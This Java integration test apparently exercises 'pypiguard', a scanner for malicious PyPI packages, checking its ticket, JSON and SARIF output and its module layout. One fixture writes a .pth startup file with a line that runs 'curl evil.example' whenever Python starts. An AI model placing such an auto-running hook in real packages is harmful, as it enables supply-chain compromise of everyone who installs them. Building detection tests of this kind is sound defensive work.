package io.pypiguard.examples.embedding;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.pypiguard.testkit.PackageBuilder;
import java.io.IOException;
import java.lang.module.ModuleDescriptor;
import java.lang.module.ModuleFinder;
import java.lang.module.ModuleReference;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class GatekeeperIT {

  @TempDir private Path folder = Path.of("");
  private String internal = "";
  private String startup = "";

  @BeforeEach
  void writePackages() throws IOException {
    internal =
        write(
            PackageBuilder.sdist("acme-billing", "9.9")
                .file("setup.py", "import setuptools\n")
                .file("acme/__init__.py", "print('hello')\n"));
    startup =
        write(
            PackageBuilder.wheel("demo", "1.0")
                .file("demo.pth", "import os; os.system('curl evil.example')\n"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"ticket", "json", "jsonl", "sarif"})
  void printsTheSameBytesOnTheModulePathAsOnTheClassPath(String format) throws Exception {
    byte[] onModulePath = OtherJava.onModulePath().run(format, internal, startup);
    byte[] onClassPath = OtherJava.onClassPath().run(format, internal, startup);

    assertThat(onModulePath).isNotEmpty().isEqualTo(onClassPath);
  }

  @Test
  void usesItsOwnPartsBesideThoseOfTheLibrary() throws Exception {
    String tickets = new String(OtherJava.onModulePath().run("ticket", internal, startup), UTF_8);
    String json = new String(OtherJava.onModulePath().run("json", internal), UTF_8);

    assertThat(tickets)
        .startsWith("malicious pkg:pypi/acme-billing@9.9\n  internal-name: ")
        .contains(" pkg:pypi/demo@1.0\n  startup-");
    assertThat(json)
        .contains("\"internal-name\"", "\"acme.script-share\"", "\"evidence\"", "T1195.002");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "io.pypiguard",
        "io.pypiguard.statics",
        "io.pypiguard.models",
        "io.pypiguard.examples.embedding"
      })
  void runsWithModulesThatDescribeThemselves(String name) {
    assertThat(ModuleFinder.of(OtherJava.JARS).find(name))
        .map(ModuleReference::descriptor)
        .get()
        .returns(false, ModuleDescriptor::isAutomatic);
  }

  @Test
  void needsOnlyTheModuleOfTheContracts() {
    ModuleDescriptor product =
        ModuleFinder.of(OtherJava.JARS)
            .find("io.pypiguard.examples.embedding")
            .orElseThrow()
            .descriptor();

    assertThat(product.requires())
        .filteredOn(
            required -> !required.modifiers().contains(ModuleDescriptor.Requires.Modifier.STATIC))
        .extracting(ModuleDescriptor.Requires::name)
        .containsExactlyInAnyOrder("java.base", "io.pypiguard");
  }

  private String write(PackageBuilder builder) throws IOException {
    return Files.write(folder.resolve(builder.fileName()), builder.build()).toString();
  }
}
